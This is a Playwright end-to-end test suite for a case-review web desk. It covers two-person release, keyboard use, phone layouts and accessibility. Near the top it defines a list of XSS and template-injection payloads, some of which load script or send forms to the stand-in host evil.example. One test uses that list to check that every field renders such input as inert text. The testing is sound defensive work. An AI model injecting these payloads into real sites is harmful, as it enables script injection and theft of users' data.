// The desk in a real browser: by two people, by keyboard, on a phone, with what attackers would write in every field.

import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { noBrowser, openBrowser } from '../support/browser.ts';
import { until } from '../support/running-app.ts';
import { openWhole, type WholeApp } from '../web/whole-app.ts';
import { ColleagueAtPage, type Colleague } from './colleague-at-page.ts';
import { keepCase, manyCases, RECIPIENT, referenceOf, SUBJECT } from './many-cases.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script src="https://evil.example/x.js"></script>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=https://evil.example><button>x</button></form>',
  '${alert(1)}{{alert(1)}}<%= 1 %>',
  '<!--<script>',
];
const ALL = ATTACKS.join(' ');

const PHONE = { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true } as const;
const DESKTOP = { viewport: { width: 1440, height: 900 } } as const;

/** Milliseconds, on a machine that is busy with others. */
const PATIENCE = 300_000;

describe.skipIf(noBrowser !== null)(
  `the desk in Chromium${noBrowser === null ? '' : ` (skipped: ${noBrowser})`}`,
  { timeout: PATIENCE },
  () => {
    let browser: Browser;
    let whole: WholeApp;
    beforeAll(async () => {
      browser = await openBrowser();
      // Nothing is handed over while the tests run: these mails were never written for a server.
      whole = await openWhole({ RELEASE: 'two', RELEASE_WINDOW_MINUTES: '60' });
      const cases = manyCases(60, new Date().toISOString());
      for (const one of cases.filter(({ number, flags }) => number < 24 || flags.includes('in-danger'))) {
        await keepCase(whole.app.store, { ...one, mail: 'two' });
      }
    }, PATIENCE);
    afterAll(async () => {
      await browser.close();
      await whole.close();
      // What is released here was never written for a mail server.
      expect(whole.faults.filter((fault) => !fault.includes('request-unreadable'))).toEqual([]);
    });

    const at = (colleague: Colleague, options = {}) =>
      ColleagueAtPage.at(
        browser,
        { url: whole.url, staff: whole.app.store.staff, now: () => new Date() },
        colleague,
        options,
      );

    /** People of other tests have left with cases, which would call everybody only hours later. */
    const givesAllBack = async () => {
      const { desk } = whole.app.store;
      for (const { case: id } of await desk.facts()) if (id !== null) await desk.assign(id, null, STORY.at);
    };

    it('lets a case go by two different people, and not by one', async () => {
      const { reference } = await keepCase(whole.app.store, { ...STORY, number: 101, mail: 'two' });
      const ana = await at({ name: 'Ana Exemplo', role: 'reviewer', language: 'pt' }, DESKTOP);
      await ana.opens(whole.url, reference);
      await seesWhatGoes(ana, DESKTOP.viewport.height);
      expect(await ana.page.locator('html').getAttribute('lang')).toBe('pt');
      await ana.page.locator('form[action$="/release"] button').click();
      await ana.page.waitForLoadState();
      expect((await whole.app.store.mail(reference))[0]?.state).toBe('review');
      await ana.opens(whole.url, reference);
      // Their own release is offered once, and then to be taken back.
      expect(await ana.page.locator('form[action$="/release"]').count()).toBe(0);
      expect(await ana.page.locator('.gate form[action$="/take-back"]').count()).toBe(1);
      expect(await whole.app.store.reviews.stateOf(reference)).toMatchObject({
        state: 'waiting',
        releasedBy: [ana.id],
      });
      const bea = await at({ name: 'Bea Exemplo', role: 'reviewer', language: 'fr' }, PHONE);
      await bea.opens(whole.url, reference);
      await bea.page.locator('.jump a').click();
      await seesWhatGoes(bea, PHONE.viewport.height);
      await bea.page.locator('form[action$="/release"] button').click();
      await bea.page.waitForLoadState();
      // Above the fold of the page that follows.
      await isWithin(bea, '.takeable button', PHONE.viewport.height);
      await bea.page.locator('.takeable button').click();
      await bea.page.waitForLoadState();
      expect(await whole.app.store.reviews.stateOf(reference)).toMatchObject({
        state: 'waiting',
        releasedBy: [ana.id],
      });
      await bea.page.locator('form[action$="/release"] button').click();
      await bea.page.waitForLoadState();
      await until(async () => (await whole.app.store.reviews.stateOf(reference))?.state === 'over');
      const rows = await whole.app.store.audit.find({ reference, action: 'case.release' }, 10);
      expect(rows.map(({ staff, detail }) => [staff, detail]).reverse()).toEqual([
        [ana.id, 'asked'],
        [ana.id, 'released-one'],
        [bea.id, 'asked'],
        [bea.id, 'released'],
        [bea.id, 'asked'],
        [bea.id, 'released'],
      ]);
      await ana.leaves();
      await bea.leaves();
    });

    it.each([
      ['360 px', PHONE],
      ['1440 px', DESKTOP],
    ])('shows ten of many cases, and what to do next without scrolling, on %s', async (_, options) => {
      await givesAllBack();
      const name = `Eva ${'abcdefgh'.charAt(options.viewport.width % 8)}${options.viewport.width}`;
      const eva = await at(
        { name: `${name} Exemplo ${options === PHONE ? 'fone' : 'mesa'}`, role: 'reviewer' },
        options,
      );
      const next = eva.page.locator('.next button.go');
      const box = await next.boundingBox();
      expect((box?.y ?? 9999) + (box?.height ?? 0)).toBeLessThan(options.viewport.height);
      expect(await eva.page.locator('.next').innerText()).toMatch(/Somebody may be in danger.*waiting for/su);
      expect(await eva.page.locator('.queue li').count()).toBe(10);
      expect(await eva.page.locator('.pages').innerText()).toMatch(/1 to 10 of 2\d/u);
      await eva.fitsTheWidth();
      await eva.findsNothingWithAxe();
      await eva.page.locator('.filters summary').click();
      await eva.findsNothingWithAxe();
      await next.click();
      await eva.findsNothingWithAxe();
      await eva.page.locator('form[action$="/ready"] button').click();
      await eva.page.locator('.document').waitFor();
      await eva.page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))");
      await eva.fitsTheWidth();
      await eva.findsNothingWithAxe();
      await eva.page.locator('.source').first().click();
      await eva.page.locator('.transcript').waitFor();
      // A short story is read in four screens of a phone at most.
      const height = await eva.page.evaluate<number>('document.documentElement.scrollHeight');
      expect(height).toBeLessThan(4 * options.viewport.height);
      expect(await eva.page.evaluate('document.querySelector(":target") !== null')).toBe(true);
      await eva.fitsTheWidth();
      await eva.findsNothingWithAxe();
      await eva.page.locator('li:target .source').click();
      await eva.page.locator('.answer:target').waitFor();
      await eva.leaves();
    });

    it('is used by keyboard alone, from the skip link to a question for the person', async () => {
      const { reference } = await keepCase(whole.app.store, {
        ...STORY,
        number: 102,
        mail: 'review',
        flags: ['in-danger'],
        at: '2000-01-01T00:00:00.000Z',
      });
      const rui = await at({ name: 'Rui Exemplo', role: 'reviewer' }, DESKTOP);
      await rui.page.keyboard.press('Tab');
      expect(await focused(rui)).toContain('Skip to the page');
      await rui.page.keyboard.press('Enter');
      await tabsTo(rui, '.next button.go');
      await rui.page.keyboard.press('Enter');
      await rui.page.locator('form[action$="/ready"]').waitFor();
      await tabsTo(rui, 'form[action$="/ready"] button');
      await rui.page.keyboard.press('Enter');
      await rui.page.locator('.document').waitFor();
      expect(await rui.page.locator('h1').innerText()).toContain(reference);
      await tabsTo(rui, '.gate details:has([name="question"]) > summary');
      await rui.page.keyboard.press('Enter');
      await tabsTo(rui, '[name="question"][value="unclear"]');
      await rui.page.keyboard.press('Enter');
      await rui.page.locator('.said').waitFor();
      expect(await rui.page.locator('.said').innerText()).toContain('The person is asked.');
      expect((await whole.app.store.reviews.stateOf(reference))?.state).toBe('with-person');
      await rui.leaves();
    });

    it('says politely that something changed, and moves nothing; without scripts a link shows the list again', async () => {
      const iris = await at({ name: 'Iris Exemplo', role: 'reader' }, DESKTOP);
      const link = iris.page.locator('.next a, .queue a').first();
      const before = await link.boundingBox();
      // The page must be listening before anything happens.
      await iris.page.waitForTimeout(500);
      await keepCase(whole.app.store, { ...STORY, number: 103, mail: 'review' });
      await iris.page.locator('#news.fresh').waitFor();
      expect(await iris.page.locator('#news').getAttribute('role')).toBe('status');
      expect(await iris.page.locator('#news').innerText()).toContain('Something has changed.');
      expect(await link.boundingBox()).toEqual(before);
      expect(await iris.page.getByText(referenceOf(103)).count()).toBe(0);
      await iris.page.locator('#news a').click();
      await iris.page.getByText(referenceOf(103)).first().waitFor();
      await iris.leaves();
      const plain = await at({ name: 'Sem Script', role: 'reader' }, { ...DESKTOP, javaScriptEnabled: false });
      await plain.page.locator('#news a').click();
      expect(await plain.page.locator('h1').innerText()).toBe('What is waiting');
      await plain.leaves();
    });

    it('faults 31–33: shows as text whatever is written, in every field, and nothing runs or loads', async () => {
      const { store } = whole.app;
      const kept = await keepCase(store, {
        ...STORY,
        ...{ number: 104, mail: 'review', words: [...ATTACKS, ALL], withheld: ['<b>', ALL.slice(0, 40)] },
      });
      const mail = (await store.mail(kept.reference))[0];
      const asked: string[] = [];
      const mallory = await at({ name: ALL.slice(0, 90), role: 'reviewer' }, DESKTOP);
      mallory.page.on('request', (request) => asked.push(new URL(request.url()).host));
      await mallory.opens(whole.url, kept.reference);
      const acts: readonly (readonly [action: string, summary: string, fields: Readonly<Record<string, string>>])[] = [
        ['note', '', { text: ALL }],
        ['write', '[name="text"]', { text: ALL }],
        ['hold', '[name="reason"]', { reason: ALL.slice(0, 400), tell: ALL.slice(0, 400) }],
      ];
      for (const [action, inside, fields] of acts) {
        const form = mallory.page.locator(`form[action$="/${action}"]`).first();
        if (inside !== '')
          await mallory.page.locator(`details:has(form[action$="/${action}"]):not([open]) > summary`).first().click();
        for (const [name, value] of Object.entries(fields)) await form.locator(`[name="${name}"]`).fill(value);
        await form.locator('button').click();
        await mallory.page.locator('.said').waitFor();
      }
      await store.endAttempt(mail?.id ?? '', 'held', { kind: 'held', at: STORY.at }, STORY.at, null, {
        server: ALL,
        reply: ALL,
      });
      for (const path of [
        `/desk/find?reference=${kept.reference}`,
        '/desk',
        `/desk/find?reference=${encodeURIComponent(ALL)}`,
        `/desk?flag=${encodeURIComponent(ALL)}&state=${encodeURIComponent(ALL)}`,
        `/desk/case/${kept.case}?said=${encodeURIComponent(ALL)}&of=${encodeURIComponent(ALL)}`,
        `/desk/case/${kept.case}/transcript/${kept.contribution}`,
        `/desk/case/${kept.case}/transcript/${kept.contribution}?words=shown`,
      ]) {
        await mallory.page.goto(whole.url + path);
        const shown = await mallory.page.content();
        expect(shown).toContain('<h1>');
        expect(
          await mallory.page
            .locator('main script:not([src^="/desk/assets/"]), main img, main iframe, main style, main svg, main link')
            .count(),
        ).toBe(0);
        expect(await mallory.page.locator('form[action^="https://evil"], a[href^="javascript:"]').count()).toBe(0);
      }
      await mallory.opens(whole.url, kept.reference);
      const text = await mallory.page.locator('main').innerText();
      for (const attack of ATTACKS) expect(text).toContain(attack);
      expect(new Set(asked)).toEqual(new Set([new URL(whole.url).host]));
      // A 404 of ours is no complaint about a policy or a script.
      mallory.complaints.splice(
        0,
        mallory.complaints.length,
        ...mallory.complaints.filter((one) => !one.includes('404')),
      );
      await mallory.leaves();
    });

    it('gives two people with two browsers two cases, and says on an open page who else reads it', async () => {
      const tia = await at({ name: 'Tia Exemplo', role: 'reviewer' }, DESKTOP);
      const uma = await at({ name: 'Uma Exemplo', role: 'reviewer' }, PHONE);
      for (const { page } of [tia, uma]) {
        await page.locator('.next button.go').click();
        await page.locator('form[action$="/ready"] button').click();
        await page.locator('.document').first().waitFor();
      }
      expect(new URL(tia.page.url()).pathname).not.toBe(new URL(uma.page.url()).pathname);
      expect(await tia.page.locator('#readers').innerText()).toBe('');
      await uma.page.goto(tia.page.url());
      expect(await uma.page.locator('#readers').innerText()).toMatch(/^Being read by Tia Exemplo since \d/u);
      await uma.fitsTheWidth();
      await uma.findsNothingWithAxe();
      // Without a reload, on the page that was open before.
      await tia.page.locator('#readers', { hasText: 'Being read by Uma Exemplo since' }).waitFor();
      await tia.page.locator('.whose form[action$="/assign"] button', { hasText: 'Hand it back' }).click();
      await uma.page.reload();
      await uma.page.locator('.whose form[action$="/assign"] button', { hasText: 'Take it' }).click();
      await tia.page.reload();
      expect(await tia.page.locator('.whose b').innerText()).toBe('Uma Exemplo');
      await uma.page.locator('.whose form[action$="/assign"] button', { hasText: 'Hand it back' }).click();
      await uma.page.locator('.said').waitFor();
      await tia.leaves();
      await uma.leaves();
    });

    it('is worked to the end by two people in two roles, with fewer than eight clicks and eight looks a case', async () => {
      const { store } = whole.app;
      await givesAllBack();
      const open = (await store.desk.facts()).filter(
        ({ mail, review }) => mail?.state === 'review' && review?.onHold !== true,
      );
      expect(open.length).toBeGreaterThanOrEqual(25);
      const clicks = new Map<string, number>();
      const looks = new Map<string, number>();
      const workers = [
        await at({ name: 'Yara Exemplo', role: 'reviewer', language: 'pt' }, DESKTOP),
        await at({ name: 'Wim Exemplo', role: 'administrator', language: 'fr' }, DESKTOP),
      ];
      for (const worker of workers) await worksToTheEnd(worker, { clicks, looks });
      for (const { case: id, reference } of open) {
        const path = `/desk/case/${id}`;
        expect(await store.reviews.stateOf(reference ?? ''), path).toMatchObject({ state: 'over' });
        expect((await store.mail(reference ?? ''))[0]?.state, path).toBe('waiting');
        expect(clicks.get(path), path).toBeLessThan(8);
        expect(looks.get(path), path).toBeLessThan(8);
      }
      for (const { page } of workers) {
        await page.goto(`${whole.url}/desk`);
        expect(await page.locator('.next, .queue .mine').count()).toBe(0);
      }
      for (const worker of workers) await worker.leaves();
    });
  },
);

const STORY = { language: 'pt', at: '2026-01-05T10:00:00.000Z', publication: 'confidential', flags: [] } as const;

interface Counted {
  /** By the path of the case, of everybody together. */
  readonly clicks: Map<string, number>;
  readonly looks: Map<string, number>;
}

/** Takes what is next, writes to who waits for words, releases, and goes where that leads, until nothing is left. */
async function worksToTheEnd({ page }: ColleagueAtPage, { clicks, looks }: Counted): Promise<void> {
  const here = () => new URL(page.url()).pathname;
  const count = (counted: Map<string, number>, path: string) => counted.set(path, (counted.get(path) ?? 0) + 1);
  await page.locator('.next button.go').click();
  await page.waitForLoadState();
  count(clicks, here());
  // Each step but the last leads to another page: more of them than this are a circle.
  for (let steps = 0; here() !== '/desk'; steps++) {
    if (steps > 500) throw new Error(`Nothing goes on at ${page.url()}.`);
    const path = here();
    count(looks, path);
    const words = page.locator('details[open] form[action$="/write"] textarea');
    const ready = page.locator('form[action$="/ready"] button');
    const release = page.locator('form[action$="/release"] button');
    if ((await ready.count()) > 0) await ready.click();
    else if ((await words.count()) > 0) {
      await words.fill('Estou aqui.');
      await page.locator('details[open] form[action$="/write"] button').click();
    } else await release.click();
    await page.waitForLoadState();
    count(clicks, path);
  }
}

function focused({ page }: ColleagueAtPage): Promise<string> {
  return page.evaluate('document.activeElement?.textContent ?? ""');
}

/** Presses Tab until the focus is there; every stop on the way must be seen. */
async function tabsTo({ page }: ColleagueAtPage, selector: string): Promise<void> {
  for (let stops = 0; stops < 120; stops++) {
    await page.keyboard.press('Tab');
    if (await page.evaluate(`document.activeElement?.matches(${JSON.stringify(selector)}) === true`)) return;
  }
  throw new Error(`The keyboard does not reach ${selector}.`);
}

/** Publication, recipient, subject, files, what happens next, and the button: all on the screen at once. */
async function seesWhatGoes(colleague: ColleagueAtPage, height: number): Promise<void> {
  await isWithin(colleague, '.goes', height);
  await isWithin(colleague, 'form[action$="/release"] button', height);
  const text = await colleague.page.locator('.goes').innerText();
  for (const part of [RECIPIENT, SUBJECT, 'Word', 'PDF']) expect(text).toContain(part);
  expect(await colleague.page.locator('.goes dd').count()).toBe(5);
}

async function isWithin({ page }: ColleagueAtPage, selector: string, height: number): Promise<void> {
  const box = await page.locator(selector).first().boundingBox();
  expect(box?.y ?? -1).toBeGreaterThanOrEqual(0);
  expect((box?.y ?? 9999) + (box?.height ?? 0)).toBeLessThanOrEqual(height);
}
